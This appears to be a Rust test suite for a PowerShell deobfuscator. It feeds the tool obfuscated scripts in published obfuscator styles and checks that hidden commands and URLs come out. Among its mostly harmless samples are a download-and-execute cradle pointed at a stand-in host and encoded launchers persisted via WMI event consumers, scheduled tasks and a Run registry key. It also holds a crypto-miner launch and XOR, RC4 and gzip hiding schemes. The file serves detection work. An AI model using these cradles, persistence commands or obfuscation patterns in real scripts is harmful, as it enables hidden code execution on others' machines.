//! Forms of PowerShell that hide what they do, each opened: by what tables, loops, methods and objects they use, and in
//! the styles that obfuscators publish (tokens, strings, encodings, compression, launchers). All payloads are ours and
//! harmless.

#![allow(clippy::unwrap_used, reason = "helpers of tests")]

mod styles;

use std::io::Write as _;

use base64::Engine as _;
use deminer_deobfuscate::{Decoded, IndicatorKind, Language, Limits, decode};

const HELLO: &str = "Write-Output 'hello'";
const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')";
const URL: &str = "http://a.example/x";

fn powershell(text: &str) -> Decoded {
    decode(text, Some(Language::PowerShell), &Limits::default())
}

fn base64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn wide(text: &str) -> String {
    base64(&text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>())
}

fn codes(text: &str, separator: &str, code: impl Fn(u8) -> String) -> String {
    text.bytes().map(code).collect::<Vec<_>>().join(separator)
}

fn gzipped(text: &str) -> String {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(text.as_bytes()).unwrap();
    base64(&encoder.finish().unwrap())
}

/// Each script, and what has to be in a layer that comes out of it or in an indicator.
#[track_caller]
fn all_open(cases: &[(&str, String)]) {
    let mut closed = Vec::new();
    for (wanted, script) in cases {
        let decoded = powershell(script);
        let layers = decoded.layers.iter().skip(1).map(|layer| layer.text.as_str());
        let mut texts = layers.chain(decoded.indicators.iter().map(|found| found.value.as_str()));
        if !texts.any(|text| text.contains(wanted)) {
            let layers: Vec<_> = decoded.layers.iter().skip(1).map(|l| (l.how, l.text.as_str())).collect();
            closed.push(format!("{script}\n   {layers:?} {:?}\n", decoded.problems));
        }
    }
    assert!(closed.is_empty(), "{} stay closed:\n{}", closed.len(), closed.concat());
}

fn one(wanted: &'static str, scripts: &[&str]) -> Vec<(&'static str, String)> {
    scripts.iter().map(|script| (wanted, (*script).to_owned())).collect()
}

#[test]
fn hash_tables() {
    all_open(&one(
        "echo opened",
        &[
            "$h=@{a='echo ';b='opened'};iex ($h.a+$h['b'])",
            "$h=@{'a'='echo '\n'b'='opened'\n};iex ($h['A']+$h.B)",
            "$h=[ordered]@{z='echo ';y='op';x='ened'};iex ($h.Values -join '')",
            "$h=@{};$h.a='echo ';$h['b']='ope';$h.b+='ned';iex \"$($h.a)$($h.b)\"",
            "$h=@{};$h.Add('a','echo opened');iex $h.a",
            "$h=@{a=@{b='echo opened'}};iex $h.a.b",
            "$h=@{a=@{}};$h.a.b='echo ';$h['a']['b']+='opened';iex $h.a.b",
            "$h=@{1='echo ';2='opened'};iex ($h[1]+$h[2])",
            "$h=@{b='opened';a='echo '};iex (($h.GetEnumerator()|sort Name|%{$_.Value}) -join '')",
            "$h=@{b='opened';a='echo '};iex (-join($h.Keys|sort|%{$h[$_]}))",
            "$o=New-Object PSObject -Property @{c='echo opened'};iex $o.c",
            "$o=[pscustomobject]@{c='echo opened'};iex $o.c",
            "$d=New-Object 'System.Collections.Generic.Dictionary[string,string]';$d.Add('k','echo opened');iex $d['k']",
            "$m=@{'q'='e';'w'='c';'r'='h';'t'='o';'_'=' ';'y'='p';'u'='n';'i'='d'};$s='';foreach($c in 'qwrt_tyquqi'.ToCharArray()){$s+=$m[[string]$c]};iex $s",
            "$h=@{f={param($x) $x.Replace('#','')}};iex ($h.f.Invoke('ec#ho op#ened'))",
            "function f($a,$b='opened'){iex ($a+$b)};$p=@{a='echo '};f @p",
            "function f{param([Parameter(Mandatory=$true)][string]$a,$b)iex ($a+$b)};$p='echo ','opened';f @p",
            "$h=@{n='iex'};&$h.n 'echo opened'",
            "if(@{a=1}.ContainsKey('A')){iex ('echo '+'opened')}",
        ],
    ));
}

#[test]
fn commands_in_tables_are_layers() {
    let encoded = wide(CRADLE);
    let consumer = |arguments: &str| {
        format!(
            "$x='{encoded}';Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments {arguments}"
        )
    };
    let mut cases = Vec::new();
    for script in [
        consumer("@{Name='a';CommandLineTemplate=\"powershell -e $x\"}"),
        consumer("@{Name='a';CommandLineTemplate='powershell -e '+$x}"),
        format!("$x='{encoded}';$a=@{{CommandLineTemplate=\"powershell.exe -NoP -e $x\"}};New-CimInstance -ClassName CommandLineEventConsumer -Property $a"),
        format!("$x='{encoded}';$c.CommandLineTemplate='powershell -e '+$x;$c.Put()"),
        format!("$x='{encoded}';$p=@{{FilePath='powershell';ArgumentList=\"-e $x\"}};Start-Process @p"),
        format!("$x='{encoded}';$a=New-ScheduledTaskAction -Execute 'powershell.exe' -Argument \"-w hidden -e $x\""),
        format!("$x='{encoded}';$p=@{{Execute='powershell.exe';Argument=\"-e $x\"}};New-ScheduledTaskAction @p"),
        format!("$x='{encoded}';([wmiclass]'Win32_Process').Create(\"powershell -e $x\")"),
        format!("$x='{encoded}';Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run a \"powershell -e $x\""),
        "Set-WmiInstance -Class ActiveScriptEventConsumer -Arguments @{Name='a';ScriptingEngine='VBScript';ScriptText='CreateObject(\"WScript.Shell\").Run \"http\" & Chr(58) & \"//a.example/\" & \"x\"'}".to_owned(),
        "Set-WmiInstance -Class CommandLineEventConsumer -Arguments @{CommandLineTemplate='cmd /c set a=http:&&set b=//a.example/x&&call mshta %a%%b%'}".to_owned(),
    ] {
        cases.push((URL, script));
    }
    all_open(&cases);
}

#[test]
fn addresses_that_are_put_together() {
    all_open(&one(
        URL,
        &[
            "$t='a.example'; $w.DownloadString(\"http://$t/x\")",
            "$t='a.example'; $w.DownloadString('http://'+$t+'/x')",
            "$t='a.example'; $u='http://{0}/{1}' -f $t,'x'; $w.DownloadString($u)",
            "foreach($u in 'b','a'){ $w.DownloadString(\"http://$u.example/x\") }",
            "foreach($t in @('b.example','a.example')){ $w.DownloadString('http://'+$t+'/x') }",
            "'b','a' | % { iwr \"http://$_.example/x\" -UseBasicParsing }",
            "$c=@{host='a.example';path='x'}; iwr \"http://$($c.host)/$($c.path)\"",
            "$p=@{Uri='http://'+'a.example'+'/x'}; Invoke-WebRequest @p",
            "$t='a.example';for($i=0;$i -lt 2;$i++){ $u=\"http://$t/x$i\" }",
            "$u=[string]::Join('/',@('http:','','a.example','x')); iwr $u",
        ],
    ));
    let decoded = powershell("$t='a.example'; $w.DownloadString(\"http://$t/x\")");
    assert!(decoded.indicators.iter().any(|found| found.kind == IndicatorKind::Url && found.value == URL));
    assert_eq!(decoded.layers.len(), 1, "nothing is hidden by it");
    let pool = powershell("$p='pool.example.com:3333';$a=\"-o $p -u x -k\";start miner.exe $a");
    assert!(
        pool.indicators.iter().any(|found| found.value.contains("pool.example.com:3333")),
        "{:?}",
        pool.indicators
    );
}

#[test]
fn back_ticks_in_strings() {
    for (script, text) in [
        ("iex \"ec`ho one`ttwo\"", "echo one\ttwo"),
        ("iex \"ec`ho `\"one`\" `$x\"", "echo \"one\" $x"),
        ("iex \"echo one`r`ntwo`0`a`b`f`v\"", "echo one\r\ntwo\0\u{7}\u{8}\u{c}\u{b}"),
        ("iex \"echo `u{6f}ne `u{1F600}\"", "echo one 😀"),
        ("iex \"echo on`e\"", "echo one"),
        ("iex \"echo o`\nne\"", "echo one"),
        ("iex @\"\necho o`h `\"\n\"@", "echo oh \""),
    ] {
        let decoded = powershell(script);
        assert!(decoded.layers.iter().any(|layer| layer.text == text), "{script}: {:?}", decoded.layers);
    }
    let cradle = powershell("(New-Object Net.WebClient).DownloadString(\"htt`p://a.exam`ple/`x\")");
    assert!(cradle.indicators.iter().any(|found| found.value == URL), "{:?}", cradle.indicators);
    assert!(cradle.traits.iter().any(|hit| hit.id == "obfuscated"));
    let plain = powershell("\"`tone`r`n`$two `'three`' 5`% `#\"");
    assert!(plain.traits.is_empty(), "{:?}", plain.traits);
}

#[test]
fn loops_and_conditions() {
    let xored = codes("echo opened", ",", |b| (b ^ 0x35).to_string());
    let hex = codes("echo opened", "", |b| format!("{b:02x}"));
    let mut cases = one(
        "echo opened",
        &[
            "$a='echo op','ened';$i=0;$s='';do{$s+=$a[$i];$i++}while($i -lt $a.Count);iex $s",
            "$a='echo op','ened';$i=0;$s='';while($i -lt 2){$s+=$a[$i++]};iex $s",
            "$a='echo op','ened';$i=0;$s='';while($true){$s+=$a[$i];$i++;if($i -ge 2){break}};iex $s",
            "$a='echo op','ened';$s='';for($i=0;;$i++){if($i -eq 2){break};$s+=$a[$i]};iex $s",
            "$a='echo op','ened';$s='';for($i=0;($i -lt 9) -and ($i -lt $a.Length);$i+=1){$s+=$a[$i]};iex $s",
            "$a='ened','echo op';$s='';for($i=1,$j=0;$i -ge 0;$i--,$j++){$s+=$a[$i]};for($i=1;$i -ge 0;--$i){$t+=$a[$i]};iex $t",
            "$x=switch(2){1{'no'} 2{'echo opened'} default{'none'}};iex $x",
            "switch('b'){'a'{$c='no'} 'B'{$c='echo '+'opened'}};iex $c",
            "$s='';switch(1..3){1{$s+='echo '} {$_ -eq 2}{$s+='ope'} default{$s+='ned'}};iex $s",
            "switch -wildcard ('power'){'p*'{iex ('echo '+'opened')}}",
            "switch -regex ('abc'){'^x'{'no'} 'b'{iex ('echo '+'opened')}}",
            ":out foreach($i in 1..3){foreach($j in 1..3){if($j -eq 2){break out};$s='echo '+'opened'}};iex $s",
            "$k='echo ','opened';$i=0;iex ($k[$i++%2]+$k[$i++%2])",
            "$s='';0..10|%{if($_ -in 1,2){$s+=('echo op','ened')[$_-1]}};iex $s",
            "if('abc' -match 'b(.)'){iex (\"echo opened$($matches[1])\".TrimEnd('c'))}",
            "$s='xopenedechox'.Trim('x');iex ($s.Substring(6)+' '+$s.Substring(0,6))",
            "$i=5;$i-=3;$i*=2;$i/=2;iex (('no','no','echo opened')[$i])",
            "try{throw 'x'}catch{}finally{iex ('echo '+'opened')}",
            "$a,$b='echo ','opened';iex ($a+$b)",
            "$a=$b='echo opened';iex $a",
            "$x=for($i=0;$i -lt 2;$i++){('echo ','opened')[$i]};iex (-join $x)",
            "$x=try{'echo opened'}catch{'no'};iex $x",
            "iex (-join [ chAr [ ] ](101,99,104,111,32,111,112,101,110,101,100))",
            "if($env:USERNAME -eq 'x'){return};iex ('echo '+'opened')",
            "while(!(Test-Connection x -Quiet)){sleep 1};iex ('echo '+'opened')",
            "$b=[byte[]](101,99,104,111,32);$b+=[byte[]](111,112,101,110,101,100);iex ([Text.Encoding]::ASCII.GetString($b))",
        ],
    );
    for script in [
        format!(
            "$d=@({xored});$i=0;$s='';do{{$s+=[char]($d[$i] -bxor 53);$i++}}until($i -ge $d.Length);iex $s"
        ),
        format!("$h='{hex}';iex (-join(0..($h.Length/2-1)|%{{[char][int](\"0x\"+$h.Substring($_*2,2))}}))"),
        format!(
            "$h='{hex}0';iex (-join(0..($h.Length/2-1.6)|%{{[char][convert]::ToInt32($h.Substring($_*2,2),16)}}))"
        ),
        format!("$k=1,4;$d=@({});$i=0;$s='';foreach($c in $d){{$s+=[char]($c -bxor $k[$i++%2])}};iex $s", {
            let mut at = 0;
            codes("echo opened", ",", |b| b.to_string())
                .split(',')
                .map(|code| {
                    at += 1;
                    (code.parse::<u8>().unwrap() ^ [1, 4][(at - 1) % 2]).to_string()
                })
                .collect::<Vec<_>>()
                .join(",")
        }),
    ] {
        cases.push(("echo opened", script));
    }
    all_open(&cases);
}

#[test]
fn methods_types_and_objects() {
    let mut cases = one(
        "echo opened",
        &[
            "iex 'echo ned'.Insert(5,'ope')",
            "iex 'echo XXopened'.Remove(5,2)",
            "iex 'echo openedXX'.Remove(11)",
            "iex ('###echo opened'.TrimStart('#'))",
            "iex ('opened'.PadLeft(7).Insert(0,'echo'))",
            "$b=New-Object Text.StringBuilder;[void]$b.Append('echo ');$b.Append('ope').Append('ned')|Out-Null;iex $b.ToString()",
            "$b=[System.Text.StringBuilder]::new('ned');$null=$b.Insert(0,'echo ope');iex \"$b\"",
            "$b=New-Object System.Text.StringBuilder;foreach($c in 101,99,104,111,32){[void]$b.Append([char]$c)};[void]$b.AppendFormat('{0}ned','ope');iex $b.ToString()",
            "$b=[Text.StringBuilder]'echo closed';[void]$b.Replace('clos','open');iex $b.ToString()",
            "$l=New-Object System.Collections.ArrayList;[void]$l.Add('echo ');$l.Add('opened')>$null;iex ($l -join '')",
            "$l=New-Object 'System.Collections.Generic.List[string]';$l.Add('ned');$l.Insert(0,'echo ope');iex ($l.ToArray() -join '')",
            "$l=[System.Collections.Generic.List[char]]::new();$l.AddRange([char[]]'denepo ohce');$l.Reverse();iex (-join $l)",
            "$a=[char[]]'denepo ohce';[Array]::Reverse($a);iex ($a -join '')",
            "$a=[byte[]](100,101,110,101,112,111,32,111,104,99,101);[array]::Reverse($a);iex ([Text.Encoding]::UTF8.GetString($a))",
            "iex (-join('opened:2','echo :1'|sort{[int]$_.Split(':')[1]}|%{$_.Split(':')[0]}))",
            "iex ((3,1,2|sort -Descending|select -First 2|%{@{3='echo ';2='opened'}[$_]}) -join '')",
            "&('i'+'ex') {echo opened}.ToString()",
            "iex \"$({echo opened})\"",
            "$f={echo $args[0]};iex {echo opened}.ToString().Trim()",
            "[scriptblock]::Create('echo '+'opened').Invoke()",
            "&([scriptblock]::Create(('echo {0}' -f 'opened')))",
            "iex ('echo opened'-as[string])",
            "iex ((101,99,104,111,32|%{$_ -as [char]}) -join '' -replace '$','opened')",
            "iex ([regex]::Replace('6563686f206f70656e6564','..',{[char][convert]::ToInt32($args[0].Value,16)}))",
            "iex ([regex]::Replace('ech0 0pened','0',{param($m)'o'}))",
            "$x=[BitConverter]::ToString([byte[]](1,171));iex ('echo openedC'+$x).Replace('C01-AB','')",
            "Set-Variable a 'echo ';sv b 'opened';iex ((Get-Variable a -ValueOnly)+(gv b).Value)",
            "Set-Item variable:q1 'echo opened';iex (Get-ChildItem variable:q1).Value",
            "$env:zz='echo opened';iex $env:zz",
            "function p{'echo opened'};iex (& ${function:p})",
            "iex ('echo '+$([char[]](111,112,101,110,101,100)-join''))",
            "iex ('ec','ho',' ','opened' -join '')",
            "'echo opened'|&($env:ComSpec[4,24,25]-join'')",
            "'echo opened'|&((gv '*mdr*').Name[3,11,2]-join'')",
            "&(([string]''.IndexOf)[0,7,8]-join'') 'echo opened'",
            "&(''.LastIndexOf.ToString()[0,11,12]-join'') 'echo opened'",
            "& $ExecutionContext.InvokeCommand.GetCommand('iex','All') 'echo opened'",
            "& $ExecutionContext.InvokeCommand.GetCmdlet('Invoke-Expression') 'echo opened'",
            "& (Get-Alias iex) 'echo opened'",
            "$s=ConvertTo-SecureString 'echo opened' -AsPlainText -Force;iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))",
            "iex ('a1echo1opened'.Split('1',[StringSplitOptions]::RemoveEmptyEntries)[1,2] -join ' ')",
            "$a=@(0)*2;$a[0]='echo ';$a[1]='opened';iex (-join $a)",
            "${;}=+$();${=}=${;};${+}=++${;};iex \"echo opene$([char](99+${+}))\"",
        ],
    );
    for script in [
        format!(
            "iex ([Text.Encoding]::ASCII.GetString([Type]('Con'+'vert')::FromBase64String('{}')))",
            base64(b"echo opened")
        ),
        format!(
            "iex ([Text.Encoding]::ASCII.GetString(([type]'Convert')::FromBase64String('{}')))",
            base64(b"echo opened")
        ),
        format!(
            "sEt-iTEM VariABLE:7gDW ( [TYpe](\"{{1}}{{0}}\" -F 'vert','con') ); iex ([Text.Encoding]::UTF8.GetString($7gDW::(\"From\"+\"Base64String\")('{}')))",
            base64(b"echo opened")
        ),
        format!(
            "$m=New-Object IO.MemoryStream;$d=[Convert]::FromBase64String('{}');$m.Write($d,0,$d.Length);[void]$m.Seek(0,0);iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
            gzipped("echo opened")
        ),
    ] {
        cases.push(("echo opened", script));
    }
    all_open(&cases);
}

fn stream_cipher(data: &[u8], key: &[u8]) -> Vec<u8> {
    let mut state: Vec<u8> = (0..=255).collect();
    let mut j = 0_usize;
    for i in 0..256 {
        j = (j + usize::from(state[i]) + usize::from(key[i % key.len()])) % 256;
        state.swap(i, j);
    }
    let (mut i, mut j) = (0, 0);
    let mut next = || {
        i = (i + 1) % 256;
        j = (j + usize::from(state[i])) % 256;
        state.swap(i, j);
        state[(usize::from(state[i]) + usize::from(state[j])) % 256]
    };
    data.iter().map(|byte| byte ^ next()).collect()
}

/// In the styles of published obfuscators: strings in pieces, out of order, backwards.
#[test]
fn functions_and_scopes() {
    let mut cases = one(
        "echo opened",
        &[
            "function a{$global:z='echo opened'};a;iex $z",
            "$script:z='echo ';$global:z+='opened';iex $z",
            "$z='echo opened';function a{$z='no'};a;iex $z",
            "function a{$args[0]+$args[1]};iex (a 'echo ' 'opened')",
            "function a($x){if($x){return $x.Replace('#','')};'no'};iex (a 'ec#ho op#ened')",
            "function a{process{$_.Replace('#','')}};'ec#ho op#ened'|a|iex",
            "function a{begin{$s=''}process{$s+=$_}end{$s}};'echo ','opened'|a|iex",
            "function a{$input|%{$_.Replace('#','')}};'ec#ho op#ened'|a|iex",
            "filter a{$_+'ed'};iex (('echo open'|a)+'')",
            "& {$q='echo opened';iex $q}",
            ". {function q($s){$s.Replace('#','')}};iex (q 'ec#ho op#ened')",
            "${function:f}={iex ('echo '+'opened')};f",
            "try{$c='echo opened'}catch{$c='no'};iex $c",
            "try{$c='echo opened'}catch{exit}finally{$d=1};iex $c",
            "trap{continue};iex ('echo '+'opened')",
            "iex (-join('e','cho opened').ForEach({$_}))",
            "iex (('no','echo opened').Where({$_ -like 'e*'})[0])",
            "iex (-join[Linq.Enumerable]::Reverse([char[]]'denepo ohce'))",
            "$r=[regex]'#';iex $r.Replace('ec#ho op#ened','')",
            "$r=New-Object Regex '#';iex ($r.Split('ec#ho op#ened')-join'')",
            "iex ([regex]::Match('xx<echo opened>','<(.*)>').Groups[1].Value)",
            "iex \"$([regex]::Match('xx<echo opened>','e(.*)d'))\"",
            "iex (ConvertFrom-StringData 'c=echo opened').c",
        ],
    );
    // One character of some, with letters between that mean nothing; what adds up is the function's own.
    let padded = |text: &str| codes(text, "", |b| format!("abcde{}", char::from(b))) + "z";
    cases.push((
        "echo opened",
        format!(
            "Function Ku ($Un){{For($i=5; $i -lt $Un.Length-1; $i+=(5+1)){{$Ra=$Un.'Substring'($i, 1);$Fo=$Fo+$Ra}};$Fo;}}; .(Ku '{}') (Ku '{}')",
            padded("iex"),
            padded("echo opened")
        ),
    ));
    // The usual stream cipher, which changes places of a list.
    cases.push((
        "echo opened",
        format!(
            "function r($d,$k){{$s=0..255;$j=0;for($i=0;$i -lt 256;$i++){{$j=($j+$s[$i]+$k[$i%$k.Length])%256;$s[$i],$s[$j]=$s[$j],$s[$i]}};$i=$j=0;$o=@();foreach($b in $d){{$i=($i+1)%256;$j=($j+$s[$i])%256;$s[$i],$s[$j]=$s[$j],$s[$i];$o+=$b -bxor $s[($s[$i]+$s[$j])%256]}};return [byte[]]$o}};iex ([Text.Encoding]::ASCII.GetString((r ([Convert]::FromBase64String('{}')) ([Text.Encoding]::ASCII.GetBytes('key')))))",
            base64(&stream_cipher(b"echo opened", b"key"))
        ),
    ));
    let encoded = wide("echo opened");
    for script in [
        format!("$a=@('-nop','-enc','{encoded}');& powershell @a"),
        format!(
            "$p=New-Object System.Diagnostics.ProcessStartInfo;$p.FileName='powershell.exe';$p.Arguments='-enc '+'{encoded}';[Diagnostics.Process]::Start($p)"
        ),
        format!("[System.Diagnostics.Process]::Start('powershell','-enc '+'{encoded}')"),
        format!(
            "$p=New-Object Diagnostics.Process;$p.StartInfo.FileName='powershell';$p.StartInfo.Arguments='-enc '+'{encoded}';$p.Start()"
        ),
    ] {
        cases.push(("echo opened", script));
    }
    all_open(&cases);
}

/// What `ConvertFrom-SecureString -Key` makes of a text, with the key in the script. Made with openssl, not by us.
#[test]
fn protected_texts() {
    let header = "76492d1116743f0423413b16050a5345MgB8AFoARwBWAG0AWgAyAGgAcABhAG0AdABzAGIAVwA1AHYAYwBIAEYAeQBjAHcAPQA9AHwA";
    let mut cases = Vec::new();
    for (bits, data) in [
        (
            16,
            "OAA5ADkAMwBjADYAYwBmADcAZABiADAAYgAxADIAMQAwAGIAYQBiAGUAMAA0AGMAYQBkAGEAZQBmAGQAYgBmADgAYwA0ADgAYwA5AGQANAAwADIAMQAzADUANABiADMAMwBhAGQAMgAzADIAMgBmAGMANQA3AGQAMwA3AGEANgBjADEANgA3AGUAOAAwADEANwAxADcANgBiAGQANgAxADMAMwA0ADAAMAA1AGMANQA3ADkAMABjAGUANAA1ADUA",
        ),
        (
            24,
            "YgA0ADYAMAAzADEAYQA0ADkANQAyADIAZABhADMAOAAyAGQAOABjAGMAZQA1AGUAMgBiAGUAZgA3ADUAMAA0ADMAMABiADMANgA4ADUANwBjAGUAYgA0ADgANgAwADIAYgBlADQAYgA5ADUANAA3AGEAOABkADEAMwBkAGYAZgAyAGIAOAA5ADkANwBhADMAMABkAGMAMwBiADQAOQAyADkAMwBjAGUANwAyADQAMgBmADIAYwA0AGMAZQA1ADIA",
        ),
        (
            32,
            "NwAxAGEAOAAxAGYANwBhADQAZAAzAGEAYgA1ADYAMQA1AGIAMABmAGMANwBkAGEAMwA4ADkAYQAyADIAYQBlAGIAZgA2ADQANAA1AGUAYQBmADAAMQA2ADQANgAwAGQANQAxAGIAMABjAGUAOQAxADgAMQAyAGEANwBlADEAOAA4ADkAOQBlADYAYQBiAGQAMwA3AGQAMwA5AGIAYQA5AGYANABlADQAMAA3ADQAMwBkADcANwBlAGMAYwAxADkA",
        ),
    ] {
        let text = format!("{header}{data}");
        cases.push((HELLO, format!("IEX ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($('{text}'|ConvertTo-SecureString -Key (1..{bits})))))")));
        cases.push((HELLO, format!("$s=ConvertTo-SecureString -Key (1..{bits}) -String '{text}';(New-Object System.Management.Automation.PSCredential(' ',$s)).GetNetworkCredential().Password|iex")));
        // Another key, and no key at all.
        for closed in [
            format!("iex ('{text}'|ConvertTo-SecureString -Key (2..{}))", bits + 1),
            format!("iex ('{text}'|ConvertTo-SecureString)"),
        ] {
            let decoded = powershell(&closed);
            assert!(!decoded.layers.iter().any(|layer| layer.text.contains("hello")), "{:?}", decoded.layers);
        }
    }
    all_open(&cases);
    let locked =
        powershell(&format!("$p='{}'|ConvertTo-SecureString;iex $p", "01000000d08c9ddf0115d111".repeat(9)));
    assert!(locked.problems.iter().any(|problem| problem.id == "locked-text"), "{:?}", locked.problems);
    // What administrators keep is no layer, and hides nothing.
    let kept =
        powershell(&format!("$p=ConvertTo-SecureString '{header}' -Key (1..16);Connect-Thing -Password $p"));
    assert_eq!((kept.layers.len(), kept.traits.len()), (1, 0));
}
